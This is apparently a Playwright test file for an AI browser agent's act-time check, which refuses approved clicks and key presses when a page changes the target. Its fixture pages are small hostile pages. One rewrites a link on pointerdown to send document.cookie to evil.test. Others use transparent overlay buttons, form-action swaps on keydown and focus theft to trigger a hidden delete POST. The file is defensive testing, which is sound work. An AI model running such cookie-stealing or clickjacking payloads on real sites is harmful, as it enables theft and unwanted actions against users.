/**
 * The act-time check in real Chromium, through the page agent the content
 * script uses: an approved action carries the element as approved (its
 * fingerprint from the snapshot), and the page layer refuses it (`not_run`,
 * saying what changed) when, at the moment it acts, the link goes elsewhere,
 * the form goes elsewhere, or the pointer would land on a different control
 * inside the target. Pages written for this test; requests are counted at
 * the network layer (Playwright routes), so "no effect" is what the browser
 * did. Each case also runs without the check, to show the page is a real
 * attack (what the review found).
 */
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Action, ActionResult } from '../../src/core/page/action.ts';
import { parseAction } from '../../src/core/page/action-grammar.ts';
import type { PageObservation } from '../../src/core/page/observation.ts';
import { resolveSemanticAction } from '../../src/core/page/semantic-action.ts';
import { actionFingerprint, type TargetFingerprint } from '../../src/core/page/target-fingerprint.ts';
import { launchPlain } from '../support/chromium.ts';
import { observeAll, pageAgentCode } from '../support/page-agent-harness.ts';

const SITE = 'http://site.test';
let browser: Browser;
let page: Page;
let agentCode: string;
/** Requests that changed something: anything under /act/ on the site, and anything at all to the attacker. */
let effects: string[] = [];

const shell = (body: string) => `<!doctype html><html><head><title>Orders</title></head><body><main><h1>Orders</h1>${body}</main></body></html>`;

const PAGES: Record<string, string> = {
  '/href-swap': shell(`<p><a id="l" href="/orders/7">Order details</a></p>
    <script>document.getElementById('l').addEventListener('pointerdown', (e) => { e.currentTarget.href = 'http://evil.test/steal?c=' + document.cookie; });</script>`),
  '/inner-submit': shell(`<div id="card" role="button" tabindex="0" style="position:relative;display:inline-block;padding:20px;border:1px solid #999" onclick="location.href='/orders/7'">Open order
    <form method="post" action="/act/delete" style="position:absolute;inset:0;margin:0"><button aria-label="" style="opacity:0;width:100%;height:100%;border:0;padding:0"></button></form></div>`),
  '/form-swap': shell(`<form id="f" method="get" action="/search"><label>Search orders <input id="q" name="q"></label></form>
    <script>document.getElementById('q').addEventListener('keydown', () => { const f = document.getElementById('f'); f.action = '/act/delete'; f.method = 'post'; });</script>`),
  '/hover-cover': shell(`<div style="position:relative;display:inline-block"><button type="button" id="ob" onclick="location.href='/orders/7'" style="padding:16px 24px">Order details</button>
    <form method="post" action="/act/covered" id="cf" style="display:none;position:absolute;inset:0;margin:0"><button aria-label="" style="opacity:0;width:100%;height:100%;border:0"></button></form></div>
    <script>document.getElementById('ob').addEventListener('pointermove', () => { document.getElementById('cf').style.display = 'block'; });</script>`),
  '/focus-steal': shell(`<form method="get" action="/search"><label>Search orders <input id="q" name="q" autofocus></label></form>
    <form method="post" action="/act/delete"><label>Reason <input id="r" name="r"></label></form>`),
  '/default-button': shell(`<form method="get" action="/search"><label>Search orders <input id="q" name="q"></label><button id="go">Search</button></form>`),
  '/benign': shell(`<p><a href="/orders/7">Order details</a></p><form method="get" action="/search"><label>Search orders <input name="q"></label><button>Search</button></form>`),
};

beforeAll(async () => {
  agentCode = await pageAgentCode();
  browser = await launchPlain();
});

afterAll(async () => {
  await browser?.close();
});

async function open(path: string): Promise<void> {
  await page?.close();
  effects = [];
  page = await browser.newPage({ viewport: { width: 1000, height: 700 } });
  await page.addInitScript({ content: agentCode });
  await page.route('http://evil.test/**', (route) => {
    effects.push(`attacker ${route.request().url()}`);
    return route.fulfill({ contentType: 'text/html', body: '<title>thanks</title>' });
  });
  await page.route(`${SITE}/**`, (route) => {
    const url = new URL(route.request().url());
    if (url.pathname.startsWith('/act/')) effects.push(`${route.request().method()} ${url.pathname}`);
    return route.fulfill({ contentType: 'text/html', body: PAGES[url.pathname] ?? shell(`<p>${url.pathname}</p>`) });
  });
  await page.goto(`${SITE}${path}`);
}

beforeEach(() => {
  effects = [];
});

const observe = (): Promise<PageObservation> => observeAll(page);

/** The action on a fresh observation, and the element as the person would approve it there. */
async function approve(text: string): Promise<{ action: Action; expect: TargetFingerprint }> {
  const parsed = parseAction(text);
  if (!parsed.ok) throw parsed.error;
  const observation = await observe();
  const resolved = resolveSemanticAction(parsed.action, observation);
  if (!resolved.ok) throw new Error(resolved.message);
  const fingerprint = actionFingerprint(resolved.action, observation);
  if (!fingerprint) throw new Error(`no element for ${text}`);
  return { action: resolved.action, expect: fingerprint };
}

async function act(action: Action, expect: TargetFingerprint | null): Promise<ActionResult> {
  const result = await page.evaluate(({ a, e }) => globalThis.__apprentice!.act(a, e ?? undefined), { a: action, e: expect }).catch(() => ({ ok: true as const, navigated: true }));
  await page.waitForTimeout(200); // a request the click started reaches the route
  return result;
}

describe('act-time check of an approved action', () => {
  it('a link that changes its href on pointerdown is refused, saying where it goes now; nothing reaches the attacker', async () => {
    await open('/href-swap');
    const approved = await approve('click(<link "Order details">)');
    expect(approved.expect.href).toBe(`${SITE}/orders/7`);
    const result = await act(approved.action, approved.expect);
    expect(result).toMatchObject({ ok: false, code: 'not_run' });
    expect(!result.ok && result.message).toMatch(/while the pointer was down: its link goes to http:\/\/evil\.test\/steal\?c=, not http:\/\/site\.test\/orders\/7/);
    expect(effects).toEqual([]);
    // Without the check (the previous act path), the same click follows the swapped link.
    await open('/href-swap');
    await act((await approve('click(<link "Order details">)')).action, null);
    expect(effects).toEqual(['attacker http://evil.test/steal?c=']);
  });

  it('a transparent submit button of another form inside the approved element is refused; no POST', async () => {
    await open('/inner-submit');
    const approved = await approve('click(<button "Open order">)');
    const result = await act(approved.action, approved.expect);
    expect(result).toMatchObject({ ok: false, code: 'not_run' });
    expect(!result.ok && result.message).toMatch(/a different control, <button>, is inside <div#card "Open order"> at every point/);
    expect(effects).toEqual([]);
    await open('/inner-submit');
    await act((await approve('click(<button "Open order">)')).action, null);
    expect(effects).toEqual(['POST /act/delete']);
  });

  it('a cover that appears under the pointer on hover is refused at the click point', async () => {
    await open('/hover-cover');
    const approved = await approve('click(<button "Order details">)');
    const result = await act(approved.action, approved.expect);
    expect(result).toMatchObject({ ok: false, code: 'not_run' });
    expect(!result.ok && result.message).toMatch(/<button> is under the pointer at the click point now, not <button#ob "Order details">/);
    expect(effects).toEqual([]);
  });

  it('Enter in a field whose form is redirected on keydown is refused before it submits', async () => {
    await open('/form-swap');
    const approved = await approve('press(<textbox "Search orders">, "Enter")');
    const result = await act(approved.action, approved.expect);
    expect(result).toMatchObject({ ok: false, code: 'not_run' });
    expect(!result.ok && result.message).toMatch(/after the key went down: its form goes to http:\/\/site\.test\/act\/delete, not http:\/\/site\.test\/search; its form method is post, not get/);
    expect(effects).toEqual([]);
  });

  it('Enter without a target, approved in the focused search box, is refused once the page moved focus into another form', async () => {
    await open('/focus-steal');
    await page.focus('#q');
    const parsed = parseAction('press("Enter")');
    if (!parsed.ok) throw parsed.error;
    const fingerprint = actionFingerprint(parsed.action, await observe());
    expect(fingerprint).toMatchObject({ role: 'textbox', name: 'Search orders', formAction: `${SITE}/search`, formMethod: 'get' });
    // The page's own script moves focus after the snapshot.
    await page.focus('#r');
    const result = await act(parsed.action, fingerprint);
    expect(result).toMatchObject({ ok: false, code: 'not_run' });
    expect(!result.ok && result.message).toMatch(/its form goes to http:\/\/site\.test\/act\/delete, not http:\/\/site\.test\/search; its form method is post, not get/);
    expect(effects).toEqual([]);
    // Without the check, the same Enter submits the form the page chose.
    await open('/focus-steal');
    await page.focus('#r');
    await act(parsed.action, null);
    expect(effects).toEqual(['POST /act/delete']);
  });

  it('Enter in a field goes where its form\'s default button sends it: a formaction added there is seen and refused', async () => {
    await open('/default-button');
    const approved = await approve('press(<textbox "Search orders">, "Enter")');
    expect(approved.expect).toMatchObject({ formAction: `${SITE}/search`, formMethod: 'get' });
    // After the approvals, the page gives the default button another destination: Enter in the field submits through it.
    const redirect = () => page.evaluate(() => { const b = document.getElementById('go')!; b.setAttribute('formaction', '/act/delete'); b.setAttribute('formmethod', 'post'); });
    await redirect();
    expect((await approve('press(<textbox "Search orders">, "Enter")')).expect).toMatchObject({ formAction: `${SITE}/act/delete`, formMethod: 'post' });
    const result = await act(approved.action, approved.expect);
    expect(result).toMatchObject({ ok: false, code: 'not_run' });
    expect(!result.ok && result.message).toMatch(/its form goes to http:\/\/site\.test\/act\/delete, not http:\/\/site\.test\/search; its form method is post, not get/);
    expect(effects).toEqual([]);
    // Without the check, Enter posts through the default button.
    await open('/default-button');
    await redirect();
    await act((await approve('press(<textbox "Search orders">, "Enter")')).action, null);
    expect(effects).toEqual(['POST /act/delete']);
  });

  it('the snapshot says where a link and a form go, and an unchanged approved action runs', async () => {
    await open('/benign');
    const search = await approve('click(<button "Search">)');
    expect(search.expect).toMatchObject({ formAction: `${SITE}/search`, formMethod: 'get', submits: true });
    const link = await approve('click(<link "Order details">)');
    expect(await act(link.action, link.expect)).toMatchObject({ ok: true, navigated: true });
    expect(page.url()).toBe(`${SITE}/orders/7`);
  });
});
